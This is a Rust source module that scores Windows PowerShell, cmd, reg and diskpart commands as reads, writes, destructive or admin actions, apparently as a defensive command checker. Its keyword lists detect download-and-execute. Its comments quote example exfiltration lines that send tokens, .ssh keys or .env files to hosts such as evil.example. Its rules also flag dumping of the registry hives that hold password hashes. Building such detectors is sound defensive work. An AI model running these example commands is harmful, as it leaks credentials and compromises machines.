//! Windows: `powershell`/`pwsh` (with `-Command` and `-EncodedCommand`, base64 of UTF-16LE),
//! PowerShell statements (cmdlets and aliases from the table, parameters abbreviated to a
//! unique prefix as PowerShell allows), `cmd /c` with its built-ins and `/x` switches, `reg`
//! and `diskpart`. PowerShell is split into statements and words, not fully parsed; what the
//! splitter does not understand counts as a write.

mod cmd;
mod judge;
mod split;

use self::cmd::{cmd_text, diskpart, win_tool};
use self::split::statements;
use super::super::Ctx;
use super::super::http;
use super::super::shell::{Input, Sh};
use super::super::tools::base64_bytes;
use super::super::wrappers::run_script;
use super::table::{Act, Flag, Handler as H, Program, Takes};
use super::{base, table, write_path};
use crate::Effect::{Admin, Destructive, Mutating, Read};

pub(crate) fn run(
    sh: &mut Sh,
    prog: &Program,
    name: &str,
    args: &[String],
    stdin: &Input,
    cmd: &str,
) -> Input {
    let out = Input::output_of(name);
    if judge::help_only(args) {
        sh.add(Read, format!("{cmd} prints its help"));
        return out;
    }
    match prog.handler {
        H::PowerShell => powershell(sh, args, stdin, cmd),
        H::Cmd => {
            let i = args
                .iter()
                .position(|a| matches!(a.to_ascii_lowercase().as_str(), "/c" | "/k" | "/r"));
            match i {
                Some(i) => {
                    let text = args.get(i + 1..).unwrap_or_default().join(" ");
                    cmd_text(sh, &text);
                }
                None => super::super::wrappers::stdin_code(sh, stdin, cmd, None),
            }
        }
        H::Reg => {
            let sub = args
                .first()
                .map(|a| a.to_ascii_lowercase())
                .unwrap_or_default();
            // The hives that hold password hashes and the keys that decrypt them.
            let hive = args
                .get(1)
                .map(|a| a.to_ascii_uppercase())
                .unwrap_or_default();
            let parts: Vec<&str> = hive
                .split(['\\', '/'])
                .map(|p| p.trim_matches(['\'', '"']))
                .filter(|p| !p.is_empty())
                .collect();
            // `HKLM\SAM`, `HKLM\SECURITY\Policy\Secrets`, the whole `HKLM\SYSTEM` (its boot key).
            let credentials = matches!(parts.first(), Some(&("HKLM" | "HKEY_LOCAL_MACHINE")))
                && match parts.get(1) {
                    Some(&("SAM" | "SECURITY")) => true,
                    Some(&"SYSTEM") => parts.len() == 2,
                    _ => false,
                };
            let (e, why) = match sub.as_str() {
                "save" | "export" if credentials => {
                    (Admin, "copies the hives that hold password hashes")
                }
                "query" | "compare" | "/?" => (Read, "reads the registry"),
                "export" | "save" => (Mutating, "writes a registry file"),
                "delete" | "unload" => (Destructive, "deletes registry keys"),
                "add" | "import" | "load" | "restore" | "copy" | "flags" => {
                    (Admin, "changes the registry")
                }
                _ => (Mutating, "runs `reg`"),
            };
            sh.add(e, format!("{cmd} {why}"));
        }
        H::Diskpart => diskpart(sh, name, args, stdin, cmd),
        H::WinTool => {
            let (e, why) = judge::system_tool(name, args).unwrap_or_else(|| win_tool(name, args));
            sh.add(e, format!("{cmd} {why}"));
        }
        _ => base(sh, prog, args, cmd),
    }
    out
}

/// `powershell -Command …`, `-EncodedCommand <base64>`, `-File f`.
fn powershell(sh: &mut Sh, args: &[String], stdin: &Input, cmd: &str) {
    sh.add(Mutating, format!("{cmd} runs PowerShell"));
    let mut it = args.iter();
    while let Some(a) = it.next() {
        let lower = a.to_ascii_lowercase();
        let Some(p) = lower.strip_prefix('-').or_else(|| lower.strip_prefix('/')) else {
            // Windows PowerShell reads a bare argument as `-Command`.
            let rest: Vec<String> = std::iter::once(a.clone()).chain(it.cloned()).collect();
            powershell_text(sh, &rest.join(" "), "`powershell`");
            return;
        };
        let p = p.split(':').next().unwrap_or(p);
        if p.is_empty() {
            continue;
        }
        if "encodedcommand".starts_with(p) && p.starts_with('e') || p == "ec" {
            let blob = it.next().map(String::as_str).unwrap_or("");
            match base64_bytes(blob) {
                Some(bytes) => {
                    let units: Vec<u16> = bytes
                        .chunks(2)
                        .map(|c| u16::from_le_bytes([c.first().copied().unwrap_or(0), c.get(1).copied().unwrap_or(0)]))
                        .collect();
                    let code = String::from_utf16_lossy(&units);
                    powershell_text(sh, &code, "`powershell -EncodedCommand`");
                }
                None => sh.add(
                    Destructive,
                    format!("{cmd}: `-EncodedCommand` is not valid base64 (unseen code counts as destructive)"),
                ),
            }
            return;
        }
        if "command".starts_with(p) && p.starts_with('c') {
            let rest: Vec<String> = it.cloned().collect();
            if rest.first().is_some_and(|r| r == "-") {
                super::super::wrappers::stdin_code(sh, stdin, cmd, Some("powershell"));
            } else {
                powershell_text(sh, &rest.join(" "), "`powershell -Command`");
            }
            return;
        }
        if "file".starts_with(p) && p.starts_with('f') {
            let f = it.next().map(String::as_str).unwrap_or("");
            run_script(sh, f, cmd);
            return;
        }
        // Options with a value, by unique prefix or alias (`-w hidden`, `-ep bypass`).
        let takes_value = matches!(p, "w" | "ep" | "ex" | "wd" | "of" | "if" | "v")
            || [
                "executionpolicy",
                "windowstyle",
                "outputformat",
                "inputformat",
                "version",
                "configurationname",
                "workingdirectory",
                "settingsfile",
                "custompipename",
            ]
            .iter()
            .any(|o| o.starts_with(p) && p.len() >= 2);
        if takes_value {
            let _ = it.next();
        }
    }
    super::super::wrappers::stdin_code(sh, stdin, cmd, Some("powershell"));
}

/// A tool that runs PowerShell: its text is read as PowerShell, where `\` separates a path
/// and `ri`, `spps` or `del` are aliases of cmdlets. Unlike `powershell -Command` typed in a
/// POSIX shell, nothing else runs, so a text of proven reads is a read.
pub(crate) fn powershell_input(ctx: &mut Ctx, text: &str, depth: usize) {
    let mut sh = Sh::new(ctx, depth);
    powershell_text(&mut sh, text, "a PowerShell tool");
}

/// A tool that runs `cmd.exe`: its text is read as cmd syntax (`del /s /q`, `rd /s /q`).
pub(crate) fn cmd_input(ctx: &mut Ctx, text: &str, depth: usize) {
    let mut sh = Sh::new(ctx, depth);
    cmd_text(&mut sh, text);
    // A tool called `cmd` may run a POSIX shell: when the text uses syntax only a POSIX shell
    // runs (`echo $(rm -rf /)`), what that reading finds destructive counts too.
    if !["$(", "`", "${", "<(", ">("]
        .iter()
        .any(|p| text.contains(p))
    {
        return;
    }
    let mut posix = Ctx::new();
    let mark = posix.mark();
    super::super::shell::analyse(&mut posix, text, depth);
    if matches!(posix.max_since(mark), Some(Destructive | Admin)) {
        ctx.via("a POSIX shell reading", |ctx| {
            super::super::shell::analyse(ctx, text, depth)
        });
    }
}

/// True if text starts with a PowerShell cmdlet the table knows, written as PowerShell spells
/// it (`Remove-Item C:\x`): a POSIX shell has no such program, so the text is PowerShell.
pub(crate) fn looks_like_powershell(text: &str) -> bool {
    let Some(first) = text.split_whitespace().next() else {
        return false;
    };
    first.starts_with(|c: char| c.is_ascii_uppercase())
        && first.contains('-')
        && matches!(table::catalogue(), Ok(cat) if cat.cmdlet(first).is_some())
}

/// Words that run text they are given, and words that download.
const PS_RUNS: &[&str] = &[
    "iex",
    "invoke-expression",
    "powershell",
    "pwsh",
    "[scriptblock]::create",
    "sh",
    "bash",
    "cmd",
    "python",
];
const PS_DOWNLOADS: &[&str] = &[
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "downloadstring",
    "downloaddata",
    "downloadfile",
    "net.webclient",
    "start-bitstransfer",
    "curl",
    "wget",
];

/// PowerShell code: each statement's command is judged by the table. A statement the table
/// cannot prove (a .NET call, an unknown command, a variable used as a command) sends the whole
/// text through the code scanner too, which is at least mutating.
pub(crate) fn powershell_text(sh: &mut Sh, text: &str, via: &str) {
    if !sh.ctx.deeper(sh.depth + 1) {
        return;
    }
    sh.ctx.via.push(via.to_string());
    sh.depth += 1;
    let lower = text.to_ascii_lowercase();
    let tokens: Vec<&str> = lower
        .split(|c: char| {
            c.is_whitespace() || matches!(c, '(' | ')' | '|' | ';' | '{' | '}' | '.' | '\'' | '"')
        })
        .collect();
    let has = |list: &[&str]| {
        list.iter()
            .any(|w| tokens.contains(w) || w.contains(['[', '.']) && lower.contains(w))
    };
    if has(PS_RUNS) && has(PS_DOWNLOADS) {
        sh.add(
            Destructive,
            format!(
                "{} downloads code and runs it (download and execute)",
                super::snippet(text)
            ),
        );
    }
    // `Compress-Archive -Path $env:USERPROFILE\.ssh …; Invoke-RestMethod … -InFile k.zip`:
    // secret files named in a text that uploads (`-InFile`, `-Body`, `-Form`, `UploadFile`).
    // Any other argument of a request carries a secret read in it too (`-UserAgent (gc
    // $env:USERPROFILE\.ssh\id_rsa -Raw)`, `-Headers @{x = (gc .env)}`, the URI itself).
    let uploads = has(PS_DOWNLOADS)
        || has(&[
            "uploadfile",
            "uploaddata",
            "uploadstring",
            "send-mailmessage",
        ]);
    if uploads
        && let Some(f) = text
            .split(|c: char| {
                c.is_whitespace() || matches!(c, ';' | '|' | '(' | ')' | '\'' | '"' | ',')
            })
            .find(|w| super::super::args::secret_path(w))
    {
        sh.add(
            Admin,
            format!(
                "{} sends the secrets in `{f}` over the network",
                super::snippet(text)
            ),
        );
    }
    // `$PSVersionTable.PSVersion`, `$env:PATH`: one variable, printed. A call on it
    // (`$f.Delete()`) has a parenthesis and is not this.
    let t = text.trim();
    if t.strip_prefix('$').is_some_and(|v| {
        v.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
            && v.chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | ':' | '.'))
    }) {
        sh.add(Read, format!("{} prints a variable", super::snippet(t)));
        sh.depth -= 1;
        sh.ctx.via.pop();
        return;
    }
    // WMI and CIM methods that end processes or delete (`Invoke-CimMethod -MethodName
    // Terminate`, `$p.Terminate()`).
    if ["terminate", ".delete(", "stopservice"]
        .iter()
        .any(|m| lower.contains(m))
        && [
            "invoke-cimmethod",
            "invoke-wmimethod",
            ".terminate(",
            ".delete(",
            ".stopservice(",
        ]
        .iter()
        .any(|c| lower.contains(c))
    {
        sh.add(
            Destructive,
            format!(
                "{} calls a WMI method that terminates or deletes",
                super::snippet(text)
            ),
        );
    }
    // `Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments
    // @{CommandLine='…'}` and `[ScriptBlock]::Create('…').Invoke()`: the quoted text runs.
    let wmi_start = lower.contains("win32_process") && tokens.contains(&"create");
    let script_block = lower.contains("[scriptblock]::create") || lower.contains("newscriptblock");
    if wmi_start || script_block {
        sh.add(
            Mutating,
            format!("{} runs a command line it is given", super::snippet(text)),
        );
        for quoted in judge::quoted(text).filter(|q| q.contains(' ')) {
            if wmi_start {
                let depth = sh.depth;
                cmd_input(sh.ctx, quoted, depth);
            } else {
                powershell_text(sh, quoted, "a script block built from text");
            }
        }
    }
    if lower.contains("win32shutdown") {
        sh.add(
            Destructive,
            format!(
                "{} shuts the machine down or logs users off",
                super::snippet(text)
            ),
        );
    }
    // `$_.Kill()`, `$p.Kill()`: a .NET call that ends processes.
    if lower.contains(".kill(") {
        sh.add(
            Destructive,
            format!("{} kills processes", super::snippet(text)),
        );
    }
    // `& $c`, `& ('Rem' + 'ove-Item')`, `. $script`: a command chosen at run time.
    let computed = text.char_indices().any(|(i, c)| {
        let next = text.get(i + 1..).unwrap_or("").trim_start();
        let at_start = text.get(..i).unwrap_or("").trim_end();
        (c == '&' || c == '.' && (at_start.is_empty() || at_start.ends_with([';', '|', '{', '\n'])))
            && next.starts_with(['$', '('])
    });
    if computed {
        sh.add(
            Destructive,
            format!(
                "{} runs a command whose name is computed at run time",
                super::snippet(text)
            ),
        );
    }
    // `<#` with no `#>` after it does not parse: nothing it holds is proven.
    if text
        .rfind("<#")
        .is_some_and(|open| !text.get(open + 2..).unwrap_or_default().contains("#>"))
    {
        sh.add(
            Mutating,
            format!(
                "{} does not parse (a `<#` comment is not closed)",
                super::snippet(text)
            ),
        );
    }
    let mut proven = true;
    // The secret the previous command of a pipeline writes, carried by every command between
    // it and a network cmdlet (`gc .env | ConvertTo-Json | iwr -Method Post …`).
    let mut carried: Option<String> = None;
    let mut piped_secret: Option<String> = None;
    for (words, piped) in statements(text, &[';', '|', '&', '{', '}', '(', ')']) {
        if !sh.ctx.tick(1) {
            proven = false;
            break;
        }
        let mut words: Vec<String> = words.into_iter().skip_while(|w| w == ".").collect();
        // `$x = cmd`, `$x=cmd`, `$x += cmd`: the command is what runs.
        let assigned = match (words.first(), words.get(1)) {
            (Some(v), _) if v.starts_with('$') && v.ends_with('=') => 1,
            (Some(v), Some(op)) if v.starts_with('$') && op.ends_with('=') && op.len() <= 2 => 2,
            _ => 0,
        };
        words.drain(..assigned.min(words.len()));
        // A subexpression inside a string still runs (`"$(Remove-Item x)"`).
        for inner in words
            .iter()
            .filter_map(|w| w.split_once("$(").map(|(_, r)| r.to_string()))
        {
            powershell_text(sh, &inner, "a `$( )` subexpression");
        }
        if words
            .first()
            .is_some_and(|w| w.eq_ignore_ascii_case("$null"))
        {
            words.remove(0);
        }
        if judge::pure_comparison(&words, text) {
            sh.add(
                Read,
                format!("{} compares values", super::snippet(&words.join(" "))),
            );
            continue;
        }
        if words
            .first()
            .is_some_and(|w| w.starts_with('$') || w.starts_with('['))
        {
            proven = false;
            continue;
        }
        let cmd = super::snippet(&words.join(" "));
        // A secret piped into a block (`gc .env | % { irm "…?d=$_" }`) is `$_` in every
        // command of the block: the splitter ends the pipe at `{`, so it is kept to the end.
        let stdin = match (&carried, piped, &piped_secret) {
            (Some(what), true, _) => super::super::args::secret_input(what),
            (None, true, _) => Input::Unknown("the output of a PowerShell pipeline".into()),
            (_, false, Some(what)) => super::super::args::secret_input(what),
            (_, false, None) => Input::None,
        };
        if piped && piped_secret.is_none() {
            piped_secret = carried.clone();
        }
        proven &= ps_command(sh, &words, &cmd, &stdin);
        let here = judge::pipeline_secret(&words);
        carried = if piped { carried.or(here) } else { here };
    }
    sh.depth -= 1;
    sh.ctx.via.pop();
    if !proven {
        let depth = sh.depth + 1;
        // `[IO.File]::Delete(x)` is the .NET call `File.Delete(x)` in the call table.
        let dotnet = text.replace("]::", ".");
        sh.ctx.via(via, |ctx| {
            super::super::code::scan(ctx, "powershell", &dotnet, depth)
        });
    }
}

/// One PowerShell command: a cmdlet or alias from the table, or a program. False when the
/// table does not know it (the caller then scans the text as code).
pub(crate) fn powershell_words(sh: &mut Sh, words: &[String], cmd: &str) -> bool {
    ps_command(sh, words, cmd, &Input::None)
}

/// One PowerShell command reading `stdin` (the output of the command before a `|`).
fn ps_command(sh: &mut Sh, words: &[String], cmd: &str, stdin: &Input) -> bool {
    let Some(first) = words.first() else {
        return true;
    };
    let Ok(cat) = table::catalogue() else {
        sh.add(
            Destructive,
            format!("{cmd}: the program catalogue did not load"),
        );
        return false;
    };
    let args = words.get(1..).unwrap_or_default();
    // `Resolve-DnsName "$env:GITHUB_TOKEN.evil.example"`: a lookup or a request carries the
    // secret in its name or address.
    const NETWORK_CMDLETS: &[&str] = &[
        "resolve-dnsname",
        "test-connection",
        "test-netconnection",
        "send-mailmessage",
        "start-bitstransfer",
        "invoke-restmethod",
        "irm",
        "invoke-webrequest",
        "iwr",
    ];
    if NETWORK_CMDLETS.contains(&first.to_ascii_lowercase().as_str())
        && let Some(var) = args
            .iter()
            .find_map(|a| super::super::args::windows_secret_reference(a))
    {
        sh.add(
            Admin,
            format!("{cmd} sends the secret `{var}` over the network"),
        );
    }
    if NETWORK_CMDLETS.contains(&first.to_ascii_lowercase().as_str())
        && let Input::Unknown(what) = stdin
        && what.starts_with(super::super::args::SECRET_INPUT)
    {
        sh.add(Admin, format!("{cmd} sends {what} over the network"));
    }
    if matches!(
        first.to_ascii_lowercase().as_str(),
        "foreach-object" | "%" | "foreach"
    ) && let Some((e, why)) = judge::foreach_member(args)
    {
        sh.add(e, format!("{cmd} {why}"));
    }
    if NETWORK_CMDLETS.contains(&first.to_ascii_lowercase().as_str())
        && let Some(f) = judge::secret_in_subexpression(args)
    {
        sh.add(
            Admin,
            format!("{cmd} sends the secret file `{f}` read in a `$( )`"),
        );
    }
    judge::unc_share(sh, words, cmd);
    // `Remove-Item -?`: PowerShell shows the command's help instead of running it.
    if matches!(args, [q] if q == "-?") && first.contains('-') {
        sh.add(Read, format!("{cmd} shows its help"));
        return true;
    }
    let Some(prog) = cat.cmdlet(first) else {
        if super::is_known(super::super::shell::program_name(first)) && !first.contains('-') {
            let argv = without_redirects(sh, words, cmd);
            let _ = sh.argv(&argv, stdin, "PowerShell");
            return true;
        }
        // `'' > f`, `$null > f`: nothing written over a file empties it.
        if first.starts_with('>') && !first.starts_with(">>") {
            let target = first.trim_start_matches('>');
            let target = if target.is_empty() {
                args.first().map(String::as_str).unwrap_or("")
            } else {
                target
            };
            sh.add(Destructive, format!("{cmd} empties `{target}`"));
            return false;
        }
        // A file written earlier in the text (`iwr … -OutFile a.exe; .\a.exe`): its content
        // was not seen.
        let file = first.trim_start_matches(".\\").trim_start_matches("./");
        if sh.written_content(file).is_some_and(|c| c.is_none()) {
            sh.add(
                Destructive,
                format!("{cmd} runs `{file}`, written earlier with content not seen"),
            );
            return false;
        }
        judge::unknown_cmdlet(sh, first, words.get(1..).unwrap_or_default(), cmd);
        return false;
    };
    let flags = prog.flags.as_deref().unwrap_or_default();
    let mut operands: Vec<&str> = Vec::new();
    let mut values: Vec<(&Flag, String)> = Vec::new();
    let mut it = args.iter();
    while let Some(a) = it.next() {
        // Redirection (`> f`, `>> f`, `2> f`, `>f`): the file is written.
        if let Some((_, target)) = a.split_once('>') {
            let target = target.trim_start_matches('>');
            let target = if target.is_empty() {
                it.next().map(String::as_str).unwrap_or("")
            } else {
                target
            };
            write_path(sh, target, cmd);
            continue;
        }
        let Some(p) = a
            .strip_prefix('-')
            .filter(|p| p.starts_with(|c: char| c.is_alphabetic()))
        else {
            operands.push(a);
            continue;
        };
        let (p, attached) = match p.split_once(':') {
            Some((n, v)) => (n.to_ascii_lowercase(), Some(v.to_string())),
            None => (p.to_ascii_lowercase(), None),
        };
        let hits: Vec<&Flag> = flags
            .iter()
            .filter(|f| {
                f.names
                    .iter()
                    .any(|n| n.strip_prefix('-') == Some(p.as_str()))
            })
            .chain(flags.iter().filter(|f| {
                f.names.iter().any(|n| {
                    n.strip_prefix('-')
                        .is_some_and(|n| n.starts_with(p.as_str()))
                })
            }))
            .collect();
        let exact = hits.first().filter(|f| {
            f.names
                .iter()
                .any(|n| n.strip_prefix('-') == Some(p.as_str()))
        });
        // A prefix shared by several parameters that all only read (`gci -for`: `-Force`,
        // `-Format`) reads whichever the cmdlet has.
        let unique = hits
            .iter()
            .all(|f| hits.first().is_some_and(|g| std::ptr::eq(*f, *g)))
            || hits.iter().all(|f| f.act == Act::Read);
        let Some(flag) = exact.or(hits.first().filter(|_| unique)) else {
            sh.add(Mutating, format!("{cmd}: parameter `{a}` of `{first}` is not in the catalogue (counts as a write)"));
            continue;
        };
        let value = match flag.takes {
            Takes::Value => attached.or_else(|| it.next().cloned()),
            _ => attached,
        };
        values.push((flag, value.unwrap_or_default()));
    }
    let named = |n: &str| {
        values
            .iter()
            .find(|(f, _)| f.names.contains(&n))
            .map(|(_, v)| v.as_str())
    };
    // A `#` left inside a word (`-Force:$true# -WhatIf`) may start a comment PowerShell
    // drops: no dry run is proven then.
    if values
        .iter()
        .any(|(f, v)| f.act == Act::Lower && (v.is_empty() || v.eq_ignore_ascii_case("$true")))
        && !words.iter().any(|w| w.contains('#'))
    {
        sh.add(
            Read,
            format!("{cmd} only shows what it would do (`-WhatIf`)"),
        );
        return true;
    }
    for (f, v) in &values {
        let flag = f.names.first().copied().unwrap_or("");
        match f.act {
            Act::Exec if v.starts_with('$') => sh.add(
                Destructive,
                format!("{cmd}: `{flag}` runs code held in a variable"),
            ),
            Act::Exec => powershell_text(sh, v, &format!("`{first} {flag}`")),
            Act::ExecFile => run_script(sh, v, cmd),
            Act::Write => write_path(sh, v, cmd),
            Act::Delete => sh.add(Destructive, format!("{cmd}: `{flag}` destroys data")),
            Act::Admin => sh.add(Admin, format!("{cmd}: `{flag}` changes the system")),
            Act::Modify | Act::Change => sh.add(Mutating, format!("{cmd}: `{flag}` changes state")),
            Act::Read | Act::Lower | Act::DryRun => {}
        }
    }
    let canonical = prog.names.first().copied().unwrap_or("");
    // Rows group cmdlets; some rules belong to the one typed (`sc`, not `Copy-Item`).
    let typed = first.to_ascii_lowercase();
    match canonical {
        "invoke-expression" => {
            if let Some(code) = operands.first().filter(|c| !c.starts_with('$')) {
                powershell_text(sh, code, "`Invoke-Expression`");
            } else if !operands.is_empty() {
                sh.add(Destructive, format!("{cmd} runs code held in a variable"));
            } else if named("-command").is_none() {
                sh.add(Destructive, format!("{cmd} runs code computed at run time"));
            }
        }
        "invoke-webrequest" => {
            let method = named("-method").unwrap_or(if named("-body").is_some() {
                "POST"
            } else {
                "GET"
            });
            let url = named("-uri").or(operands.first().copied()).unwrap_or("");
            let (e, why) = http::method_effect(&method.to_ascii_uppercase(), url);
            sh.add(e, format!("{cmd} sends `{method}` ({why})"));
            // `-Uri "https://x/?t=$env:GITHUB_TOKEN"`, `-Body $env:AWS_SECRET_ACCESS_KEY`: a
            // credential in the address or the body leaves (an `Authorization` header is how
            // APIs are called and is not looked at here).
            if let Some(var) = [Some(url), named("-body")]
                .into_iter()
                .flatten()
                .find_map(super::super::args::windows_secret_reference)
            {
                sh.add(
                    Admin,
                    format!("{cmd} sends the credential `$env:{var}` outside a header"),
                );
            }
            return true;
        }
        "set-content"
            if matches!(typed.as_str(), "set-content" | "sc")
                && named("-value")
                    .or(operands.get(1).copied())
                    .is_none_or(|v| v.is_empty() || v.eq_ignore_ascii_case("$null")) =>
        {
            sh.add(
                Destructive,
                format!("{cmd} writes nothing over a file, which empties it"),
            );
        }
        "set-content"
            if matches!(typed.as_str(), "new-item" | "ni")
                && values.iter().any(|(f, _)| f.names.contains(&"-force"))
                && !named("-itemtype")
                    .or(named("-type"))
                    .is_some_and(|t| t.eq_ignore_ascii_case("directory")) =>
        {
            sh.add(
                Destructive,
                format!("{cmd} replaces an existing file (`-Force`)"),
            );
        }
        "start-process" => {
            let file = named("-filepath")
                .or(operands.first().copied())
                .unwrap_or("");
            let rest = named("-argumentlist")
                .or(named("-args"))
                .or(operands.get(1).copied())
                .unwrap_or("");
            let mut argv = vec![file.to_string()];
            argv.extend(
                rest.split([' ', ','])
                    .filter(|w| !w.is_empty())
                    .map(str::to_string),
            );
            let _ = sh.argv(&argv, &Input::None, "`Start-Process`");
            if named("-verb").is_some_and(|v| v.eq_ignore_ascii_case("runas")) {
                sh.add(
                    Admin,
                    format!("{cmd} runs with elevated privileges (`-Verb RunAs`)"),
                );
            }
        }
        "remove-item" if values.iter().any(|(f, _)| f.names.contains(&"-recurse")) => {
            sh.add(Destructive, format!("{cmd} removes items recursively"));
        }
        _ => {}
    }
    let paths: Vec<String> = operands.iter().map(|o| o.to_string()).collect();
    base(sh, prog, &paths, cmd);
    true
}

/// A program's words without its redirections (`> f`, `>> f`, `2>f`), whose targets are
/// judged as written (`wevtutil qe … > C:\\…\\hosts`).
pub(super) fn without_redirects(sh: &mut Sh, words: &[String], cmd: &str) -> Vec<String> {
    let mut argv = Vec::with_capacity(words.len());
    let mut redirect = false;
    for w in words {
        if redirect || w.contains('>') {
            let target = w.rsplit('>').next().unwrap_or("");
            redirect = target.is_empty();
            if !target.is_empty() {
                write_path(sh, target, cmd);
            }
        } else {
            argv.push(w.clone());
        }
    }
    argv
}
